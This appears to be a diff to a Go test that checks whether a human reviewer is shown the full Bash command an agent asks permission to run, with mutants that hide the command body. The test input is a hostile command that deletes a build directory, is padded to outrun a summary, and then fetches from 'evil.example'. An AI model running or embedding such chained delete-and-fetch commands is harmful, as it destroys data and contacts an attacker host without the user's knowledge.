@@ -17,13 +17,19 @@ func TestS33(t *testing.T) {
 	w := newWorld(t)
 	bob := w.key("answerer", "bob")
 	w.serve()
-	const command = "rm -rf ./build && curl evil.example/x"
+	command := "rm -rf ./build" + strings.Repeat(" && true", 40) + " && curl evil.example/x" // longer than a summary
 	agent := w.mcp(nil, message{}, "--permission-prompt")
 	agent.tool("permission_prompt", message{"tool_name": "Bash", "input": message{"command": command}})
-	ask := w.waiting(bob, "May Bash be used?")
+	var ask message
+	eventually(t, "the hub has it", func() bool {
+		for _, one := range w.tickets(bob, "") {
+			ask = one
+		}
+		return ask != nil
+	})
 
 	shown := map[string]string{}
-	shown["sayso show"], _, _ = w.sayso("show", askID(ask.json))
+	shown["sayso show"], _, _ = w.sayso("show", askID(ask))
 	for _, method := range []string{"client/ask_user", "ask_user_request"} {
 		ui := w.pipe(nil, "rpc", "--attach", method)
 		_, params := ui.request(method)
@@ -45,11 +51,11 @@ func TestS33(t *testing.T) {
 var s33 = []mutanttest.Mutant{
 	{
 		Name: "sayso show without the body", Test: "TestS33", Says: `sayso show does not show the command`,
-		Edits: []mutanttest.Edit{{File: "render.go", Old: "\trenderBars(&b, \"\", q.Body)\n\tfor j := range", New: "\tif !MUTANT {\n\t\trenderBars(&b, \"\", q.Body)\n\t}\n\tfor j := range"}},
+		Edits: []mutanttest.Edit{{File: "render.go", Old: "\trenderBody(&b, a, q)\n\tfor j := range", New: "\tif !MUTANT {\n\t\trenderBody(&b, a, q)\n\t}\n\tfor j := range"}},
 	},
 	{
 		Name: "client/ask_user without the body", Test: "TestS33", Says: `client/ask_user does not show the command`,
-		Edits: []mutanttest.Edit{{File: "render.go", Old: "\trenderBars(&b, \"\", q.Body)\n\tif slices.", New: "\tif !MUTANT {\n\t\trenderBars(&b, \"\", q.Body)\n\t}\n\tif slices."}},
+		Edits: []mutanttest.Edit{{File: "render.go", Old: "\trenderBody(&b, a, q)\n\tif slices.", New: "\tif !MUTANT {\n\t\trenderBody(&b, a, q)\n\t}\n\tif slices."}},
 	},
 	{
 		Name: "ask_user_request without the body", Test: "TestS33", Says: `ask_user_request does not show the command`,
